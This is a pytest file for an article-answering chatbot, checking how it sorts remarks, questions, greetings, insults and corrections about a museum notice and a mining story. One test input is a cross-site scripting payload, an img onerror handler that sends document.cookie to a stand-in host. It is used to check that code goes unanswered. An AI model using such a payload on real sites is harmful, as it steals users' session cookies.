"""Remarks near the bot: what asks it nothing gets silence."""

from pathlib import Path

import pytest

from bot.core.language.smalltalk import Talk
from bot.core.matching.answerer import Answerer
from bot.core.matching.following.dialogue import asks_something
from bot.core.matching.outcome import Answered, NotUnderstood, SmallTalk, Suggested
from tests.support.folders import load_folder

FIGURES = Path(__file__).parents[2] / "figures"


def asks(answerer: Answerer, message: str, *, in_passing: bool = False) -> bool:
    return asks_something(message, answerer.ask(message), in_passing=in_passing)


@pytest.mark.parametrize(
    "remark",
    [
        "told you", "so it is Nara", "Ben you owe me 5 euros", "+1", "stupid bot", "lol ok", "😂", "nice", "i see",
        "fair enough", "that makes sense", "ok horyu something", "so symbolic AND practical", "older than i thought",
        "great, thanks a ton!!", "not true", "Kenji was right about the temple", "i said Nara", "ok it doesn't know",
        "haha the deer", "my grandma was born there", "they should have met in Kyoto",
    ],
)  # fmt: skip
def test_a_remark_asks_nothing(shipped: Answerer, remark: str) -> None:
    assert not asks(shipped, remark)


@pytest.mark.parametrize(
    "question",
    [
        "how old is it",
        "and why?",
        "which temple",
        "and the temple",
        "tell me about the mining accident",
        "did Lee go to Beijing",
    ],
)
def test_a_question_asks(shipped: Answerer, question: str) -> None:
    assert asks(shipped, question)


@pytest.mark.parametrize("said", ["i asked this bot where they meet", "has anybody asked this bot where they meet?"])
def test_in_passing_only_what_the_bot_is_is_asked(shipped: Answerer, said: str) -> None:
    assert not asks(shipped, said, in_passing=True)
    assert asks(shipped, "what does this bot do?", in_passing=True)


@pytest.mark.parametrize(
    "code", ["<img src=x onerror=\"fetch('//e.example/'+document.cookie)\">", "for (i=0;i<9;i++) { a[i] = b[i]; }"]
)
def test_code_is_not_understood(shipped: Answerer, code: str) -> None:
    assert shipped.ask(code) == NotUnderstood()


def test_a_story_is_no_question_that_the_article_would_have_to_answer(shipped: Answerer) -> None:
    for said in ("the wind had my hat off at the bus stop yesterday", "Three miles each way I walked to school"):
        assert shipped.ask(said) == SmallTalk(Talk.CHATTER), said


@pytest.fixture(scope="module")
def museum() -> Answerer:
    return Answerer.of(load_folder(FIGURES / "museum"))


@pytest.mark.parametrize(
    ("question", "entry"),
    [
        ("do you have a cafe", "cafe"),
        ("are you open today", "reopening-day"),
        ("lol the cafe?", "cafe"),
        ("i would like to know the ticket price", "ticket-price"),
    ],
)
def test_what_is_asked_of_the_museum_is_not_said_to_the_bot(museum: Answerer, question: str, entry: str) -> None:
    outcome = museum.ask(question)
    assert isinstance(outcome, Answered | Suggested)
    assert outcome.ids[0] == entry


@pytest.mark.parametrize("question", ["how many dead?", "so how many dead", "oh no, how many dead"])
def test_the_dead_are_no_slang(shipped: Answerer, question: str) -> None:
    assert "mine-deaths" in shipped.ask(question).ids


@pytest.mark.parametrize(
    "said", ["saturday morning", "at 9 in the morning?", "when does he have to go", "I'd like to go"]
)
def test_what_is_like_a_greeting_or_a_goodbye_is_none(museum: Answerer, said: str) -> None:
    outcome = museum.ask(said)
    assert not (isinstance(outcome, SmallTalk) and outcome.talk in (Talk.GREETING, Talk.GOODBYE))


@pytest.mark.parametrize(
    ("said", "talk"),
    [("good morning", Talk.GREETING), ("gotta go", Talk.GOODBYE), ("do you get paid", Talk.IDENTITY)],
)
def test_a_greeting_is_one_all_the_same(museum: Answerer, said: str, talk: Talk) -> None:
    assert museum.ask(said) == SmallTalk(talk)


@pytest.mark.parametrize(
    ("said", "talk"),
    [
        ("that's way too far", Talk.CHATTER),
        ("can't wait!", Talk.CHATTER),
        ("can't complain", Talk.CHATTER),
        ("no that's wrong", Talk.WRONG),
        ("ta", Talk.THANKS),
    ],
)
def test_what_asks_for_nothing_is_not_refused(museum: Answerer, said: str, talk: Talk) -> None:
    assert museum.ask(said) == SmallTalk(talk)


def test_who_hates_what_the_article_tells_of_insults_nobody(museum: Answerer) -> None:
    outcome = museum.ask("i hate this flood, poor museum")
    assert not (isinstance(outcome, SmallTalk) and outcome.talk is Talk.INSULT)
    assert museum.ask("i hate this bot") == SmallTalk(Talk.INSULT)


@pytest.mark.parametrize(
    ("question", "entry"),
    [
        ("name of the clockmaker", "clock-maker"),
        ("courtyard workshop?", "school-workshop"),
        ("rotten beams?", "cost-why"),
    ],
)
def test_what_a_few_words_name_is_offered_where_it_is_told_of(museum: Answerer, question: str, entry: str) -> None:
    outcome = museum.ask(question)
    assert isinstance(outcome, Answered | Suggested)
    assert outcome.ids[0] == entry


@pytest.mark.parametrize(
    ("corrected", "meant"),
    [("not the clock, the café", "the café"), ("no not the tickets but the reopening", "the reopening")],
)
def test_what_is_put_right_is_asked_alone(museum: Answerer, corrected: str, meant: str) -> None:
    assert museum.ask(corrected).ids == museum.ask(meant).ids


@pytest.mark.parametrize("asked", ["when was this notice written", "who published this announcement"])
def test_a_notice_is_an_article(museum: Answerer, asked: str) -> None:
    assert museum.ask(asked) == museum.ask(asked.replace("notice", "article").replace("announcement", "article"))
    assert isinstance(museum.ask(asked), SmallTalk)


def test_what_a_story_is_about_is_what_it_asks_of(museum: Answerer) -> None:
    story = (
        "We used to come every summer when the children were small, and whatever else there was to see in Karlsund they"
        " wanted to stand and look up at the astronomical clock, although none of us could ever read it. Who built it?"
    )
    outcome = museum.ask(story)
    assert isinstance(outcome, Answered | Suggested)
    assert "clock" in outcome.entries[0].question


@pytest.mark.parametrize("question", ["anybody hurt", "anyone living out there", "anything on the weather"])
def test_whether_anybody_is_asked_of_the_article(shipped: Answerer, question: str) -> None:
    assert not isinstance(shipped.ask(question), SmallTalk)
    assert shipped.ask("anybody there") == SmallTalk(Talk.GREETING)


@pytest.mark.parametrize(("question", "talk"), [("who wrote this", Talk.AUTHOR), ("who made this", Talk.MAKER)])
def test_what_people_read_was_written_by_its_author(shipped: Answerer, question: str, talk: Talk) -> None:
    outcome = shipped.ask(question)
    assert isinstance(outcome, SmallTalk)
    assert outcome.talk is talk
